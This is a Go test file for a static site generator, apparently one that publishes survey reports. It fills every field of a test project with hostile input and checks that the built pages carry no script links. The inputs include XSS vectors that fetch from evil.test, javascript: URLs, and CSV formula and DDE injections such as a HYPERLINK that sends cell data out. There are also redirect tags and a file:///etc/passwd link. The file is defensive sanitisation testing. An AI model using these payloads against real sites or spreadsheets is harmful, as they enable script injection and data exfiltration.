package build

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
)

// payload marks the window of a page on which an attacker's code ran, and tells another host.
const payload = `window.__pwned=1;fetch('//evil.test/x')`

// hostileLabels are answers, titles and sources that a survey may really hold.
var hostileLabels = []string{
	`</script><script>` + payload + `</script>`,
	`"><img src=x onerror="` + payload + `">`,
	`' onmouseover='` + payload,
	`javascript:` + payload,
	`[x](javascript:` + payload + `)`,
	`=HYPERLINK("http://evil.test/?"&A1,"点这里")`,
	`+1+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1+1)`, "\t=1+1", `＝1+1`,
	`{{.}} {{template "x"}} {{"` + payload + `"}}`,
	`__f__function(){` + payload + `}__f__`,
	"左\u202eתכונה\u202c\u2066右\u2069\u200f末",
	"空\u0000字", "换\u2028行\u2029", "\ufeff头", "e\u0301\u0327\u0300",
	`<svg/onload=` + payload + `>`, `<!--`, `]]>`, `<![CDATA[`, `&lt;script&gt;&#106;avascript:&colon;`,
	`</title><base href=//evil.test/>`, `${` + payload + `}`, "`" + payload + "`", `\u003cscript\u003e`, `%3Cscript%3E`, `{a|b}<b>{c}`,
	`<a href="http://evil.test/">x</a>`, `url(//evil.test/x.png)`, `a;b{background:url(//evil.test/)}`,
	strings.Repeat("长", 10_000), strings.Repeat("W", 10_000),
}

// hostileText is Markdown that tries to run something, to load something, or to
// break out of its place on the page.
const hostileText = `
## <script>PAYLOAD</script> 标题 {#x" onclick="PAYLOAD}

<script>PAYLOAD</script>

<ScRiPt src=//evil.test/x.js></sCrIpT>

<img src=x onerror="PAYLOAD"> <img src="//evil.test/a.png"> <img src=x:x onerror=PAYLOAD>

<svg onload="PAYLOAD"><script>PAYLOAD</script><image href="//evil.test/x.png"/><a xlink:href="javascript:PAYLOAD"><text>x</text></a></svg>

<math><mtext><table><mglyph><style><img src=x onerror="PAYLOAD"></style></mglyph></table></mtext></math>

<iframe src="javascript:PAYLOAD"></iframe><iframe srcdoc="<script>PAYLOAD</script>"></iframe>

<object data="//evil.test/x"></object><embed src="//evil.test/x">

<meta http-equiv="refresh" content="0;url=//evil.test/"><base href="//evil.test/"><link rel="stylesheet" href="//evil.test/x.css">

<style>*{background:url(//evil.test/x.png)} body{display:none}</style> <p style="background:url(//evil.test/y.png)">样式</p>

<form action="//evil.test/"><input autofocus onfocus="PAYLOAD"><button formaction="javascript:PAYLOAD">x</button></form>

<details open ontoggle="PAYLOAD"><summary>展开</summary>内</details> <video src=//evil.test/v onerror=PAYLOAD></video>

<body onload="PAYLOAD"> <marquee onstart="PAYLOAD"> <noscript><p title="</noscript><img src=x onerror=PAYLOAD>">

[a](javascript:PAYLOAD) [b](JaVa&#115;cript:PAYLOAD) [c](java&#10;script:PAYLOAD) [d](&#1;javascript:PAYLOAD) [e](javascript&colon;PAYLOAD)
[f](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+) [g](vbscript:x) [h](<java	script:PAYLOAD>) [i][ref] [j](file:///etc/passwd)
<javascript:PAYLOAD> <data:text/html,x> [k](//evil.test/x "\" onmouseover=\"PAYLOAD") [l](http://evil.test/"onclick="PAYLOAD)

[ref]: javascript:PAYLOAD "\"><script>PAYLOAD</script>"

![\"><script>PAYLOAD</script>](x.png "\" onerror=\"PAYLOAD") ![p](//evil.test/p.png) ![q](data:image/svg+xml,<svg/onload=PAYLOAD>) ![r](http://evil.test/r.png)

| <script>PAYLOAD</script> | "><img src=x onerror=PAYLOAD> |
| --- | --- |
| [x](javascript:PAYLOAD) | {{.Title}} {{template "x"}} |

~~~html" onclick="PAYLOAD
</code></pre><script>PAYLOAD</script>
~~~

~~~话术
</pre><script>PAYLOAD</script>
~~~

- [ ] <script>PAYLOAD</script> " onclick="PAYLOAD
- <b><i>没有关上

<!-- --><script>PAYLOAD</script><!-- -->
<!--><script>PAYLOAD</script>-->

脚注[^1]，<div class="site" id="main">占位</div></div></main></body></html>

[^1]: <script>PAYLOAD</script> [x](javascript:PAYLOAD)

<textarea></textarea><script>PAYLOAD</script><plaintext>

## 尾巴

这一行要在。
`

// hostileProject is a whole project whose every text is hostile; what is safe
// is only the name of the last section, by which a page shows that it is whole.
func hostileProject(t *testing.T) string {
	t.Helper()
	text := strings.ReplaceAll(hostileText, "PAYLOAD", payload)
	files := map[string]string{
		"benchbook.toml":              settings(),
		"data/bad/dataset.toml":       hostileDictionary(),
		"data/bad/rows.csv":           hostileRows(),
		"data/indicators.toml":        "[[indicator]]\nid = \"one\"\ndataset = \"bad\"\nkind = \"share\"\nfield = \"answer\"\n" + keys("title", 0, "definition", 1, "formula", 2),
		"data/charts.toml":            hostileCharts(),
		"data/facts.toml":             "[[fact]]\nid = \"f\"\nvalue = 27\n" + keys("statement", 0, "source", 1, "unit", 2, "note", 3, "asof", 11),
		"content/index.md":            front(keys("title", 0, "summary", 1), "key_figures = [{ ref = \"fact:f\", label = "+quoted(0)+" }]\n") + text,
		"content/about.md":            front(keys("title", 12)) + text,
		"content/glossary.md":         "# 术语\n\n## " + hostileLabels[1] + "\n\n## 导流率\n\n" + text,
		"content/methodology.md":      text,
		"content/chapters/01-a.md":    front(keys("title", 0, "short", 1, "summary", 2), "key_points = ["+quoted(0)+", "+quoted(4)+"]\n") + hostileFigures() + text,
		"content/sop/a.md":            front(keys("title", 0, "purpose", 1, "when", 2, "when_not", 3, "trigger", 4, "time", 5, "owner", 13, "version", 1), lists("roles", "inputs", "stage", "industry")) + text,
		"content/sop/b/it's \"q\".md": "# " + hostileLabels[0] + "\n" + text,
		"content/notes/&<b>.md":       "# <b>x\n\n" + text,
		"content/chapters/02-b.md":    "+++\ntitle = \"干净\"\n+++\n\n[27" + "](fact:f) [x](term:导流率)\n\n## 尾巴\n",
	}
	files["content/chapters/02-b.md"] = strings.Replace(files["content/chapters/02-b.md"], "[27]", "[]", 1)
	return newProject(t, files)
}

func quoted(i int) string {
	out, err := json.Marshal(strings.ReplaceAll(hostileLabels[i], "\u0000", ""))
	if err != nil {
		panic(err)
	}
	return string(out) // a JSON string is a TOML string
}

// keys writes TOML keys with hostile values: name, index of the label, …
func keys(pairs ...any) string {
	var b strings.Builder
	for i := 0; i < len(pairs); i += 2 {
		fmt.Fprintf(&b, "%s = %s\n", pairs[i], quoted(pairs[i+1].(int)))
	}
	return b.String()
}

func lists(names ...string) string {
	var b strings.Builder
	for _, name := range names {
		fmt.Fprintf(&b, "%s = [%s, %s]\n", name, quoted(0), quoted(1))
	}
	return b.String()
}

func front(parts ...string) string { return "+++\n" + strings.Join(parts, "") + "+++\n" }

func settings() string {
	return "edition = \"2026\"\ndate = 2026-11-01\n" + keys("title", 0, "subtitle", 1, "description", 2, "publisher", 11, "licence", 3, "contact", 3) +
		"[[correction]]\ndate = 2026-11-02\n" + keys("text", 0)
}

func hostileDictionary() string {
	var b strings.Builder
	b.WriteString(keys("title", 0, "description", 1, "source", 1, "licence", 3, "unit", 5) + "segments = [\"answer\"]\n\n[[resource]]\npath = \"rows.csv\"\n")
	for _, f := range []struct{ name, kind, more string }{{"answer", "string", ""}, {"many", "list", "separator = \"┋\"\n"}, {"plain", "string", ""}} {
		fmt.Fprintf(&b, "\n[[field]]\nname = %q\ntype = %q\n%s%scategories = [", f.name, f.kind, f.more, keys("title", 1))
		for i := range hostileLabels {
			if f.name == "plain" && i > 2 {
				break
			}
			value := strings.ReplaceAll(fmt.Sprintf("%q", "L"+fmt.Sprint(i)), "\u0000", "")
			fmt.Fprintf(&b, "{ value = %s, label = %s },\n", value, quoted(i))
		}
		b.WriteString("]\n")
	}
	fmt.Fprintf(&b, "\n[[field]]\nname = \"raw\"\ntype = \"string\"\ncategories = [")
	for i := range hostileLabels {
		fmt.Fprintf(&b, "%s,\n", strings.TrimSpace(quoted(i)))
	}
	b.WriteString("]\n")
	return b.String()
}

// hostileRows gives each answer eight rows, so that none is withheld.
func hostileRows() string {
	var b strings.Builder
	w := csv.NewWriter(&b)
	_ = w.Write([]string{"answer", "many", "plain", "raw"})
	for i, label := range hostileLabels {
		for range 8 {
			_ = w.Write([]string{fmt.Sprintf("L%d", i), fmt.Sprintf("L%d┋L%d", i, (i+1)%len(hostileLabels)), fmt.Sprintf("L%d", i%3), label})
		}
	}
	w.Flush()
	return b.String()
}

// hostileCuts are the figures of the hostile data: many labels, many series, a crossing.
var hostileCuts = []struct{ id, indicator, kind, by string }{
	{"h-bars", "bad/one", "bars", ""}, {"h-table", "bad/one", "table", ""}, {"h-multi", "bad/many", "bars", ""}, {"h-raw", "bad/raw", "bars", ""},
	{"h-heat", "bad/answer", "heatmap", "plain"}, {"h-grouped", "bad/answer", "grouped", "plain"}, {"h-stacked", "bad/plain", "stacked", "answer"},
}

func hostileCharts() string {
	var b strings.Builder
	for _, c := range hostileCuts {
		fmt.Fprintf(&b, "[[chart]]\nid = %q\nindicator = %q\nkind = %q\nby = %q\n%s\n", c.id, c.indicator, c.kind, c.by, keys("title", 0, "subtitle", 1, "note", 4))
	}
	return b.String()
}

func hostileFigures() string {
	var b strings.Builder
	for _, c := range hostileCuts {
		fmt.Fprintf(&b, "\n![](chart:%s)\n", c.id)
	}
	return b.String()
}

// TestHostileProjectIsHarmless holds the bytes of a hostile site to everything that is
// promised of any site; what a browser makes of them is in TestHostileInBrowser.
func TestHostileProjectIsHarmless(t *testing.T) {
	m := makeSite(t, hostileProject(t))
	m.wantNoErrors(t)
	pages := checkSite(t, m)
	for name, p := range pages {
		if n := len(find(p.root, "h2#尾巴")); n == 0 && len(find(p.root, ".prose")) > 0 && strings.Contains(m.text(t, name), "这一行要在") && name != "search.html" && name != "2026/print.html" {
			t.Errorf("%s: the end of its text is not a section of its own", name)
		}
		for _, n := range find(p.root, "main a") {
			if rel, _ := attr(n, "href"); strings.Contains(strings.ToLower(rel), "script:") {
				t.Errorf("%s: link to %q", name, rel)
			}
		}
	}
}
